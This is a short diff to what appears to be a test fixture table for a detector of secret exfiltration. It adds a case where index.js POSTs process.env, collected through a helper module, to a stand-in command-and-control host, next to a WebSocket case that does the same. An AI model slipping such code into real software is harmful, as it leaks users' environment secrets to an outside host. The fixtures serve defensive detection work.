@@ -37,6 +37,14 @@ new S3Client({}).send(new PutObjectCommand({ Bucket: 'b', Key: 'k', Body: JSON.s
       },
     },
     {
+      when: 'it is gathered in another file',
+      files: {
+        'index.js': `fetch('https://c2.invalid/', { method: 'POST', body: JSON.stringify(require('./gather')()) })`,
+        'gather.js': `module.exports = () => ({ env: process.env })`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'the handler of a socket sends it',
       files: { 'index.js': `const w = new WebSocket('wss://c2.invalid'); w.onopen = () => w.send(JSON.stringify(process.env))` },
       weight: 'proof',
